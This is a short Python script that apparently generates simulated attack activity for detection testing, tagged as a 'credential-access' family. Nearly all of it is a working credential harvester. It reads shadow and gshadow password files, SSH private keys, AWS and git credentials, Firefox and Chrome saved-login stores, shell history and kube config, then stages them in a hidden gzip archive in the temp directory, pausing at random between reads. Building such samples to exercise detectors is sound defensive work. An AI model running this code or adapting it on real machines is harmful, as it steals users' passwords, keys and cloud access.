#!/usr/bin/python3
# family: credential-access
# needs: keys
# actors: python3.*
"""Credential harvesting: /etc/shadow and gshadow, then (in the sandbox HOME only) SSH keys, cloud and
browser credential stores, history files; everything staged into one archive in $TMPDIR."""
import glob, io, os, random, tarfile, time
rng = random.Random(int(os.environ["PG_SEED"]))
home = os.environ["HOME"]
targets = ["/etc/shadow", "/etc/gshadow", "/etc/security/opasswd"]
patterns = [".ssh/id_*", ".aws/credentials", ".netrc", ".git-credentials", ".mozilla/firefox/*/logins.json",
            ".mozilla/firefox/*/key4.db", ".config/google-chrome/*/Login Data", ".bash_history", ".kube/config"]
for p in rng.sample(patterns, rng.randint(4, len(patterns))):
    targets += glob.glob(os.path.join(home, p))
loot = io.BytesIO()
with tarfile.open(fileobj=loot, mode="w:gz") as tar:
    for t in targets:
        try:
            with open(t, "rb") as f:
                data = f.read()
        except OSError:
            continue
        info = tarfile.TarInfo(t.replace("/", "_")); info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        time.sleep(rng.uniform(0, 0.02))
name = os.path.join(os.environ["TMPDIR"], "." + "".join(rng.choice("abcdef0123456789") for _ in range(8)))
with open(name, "wb") as f:
    f.write(loot.getvalue())
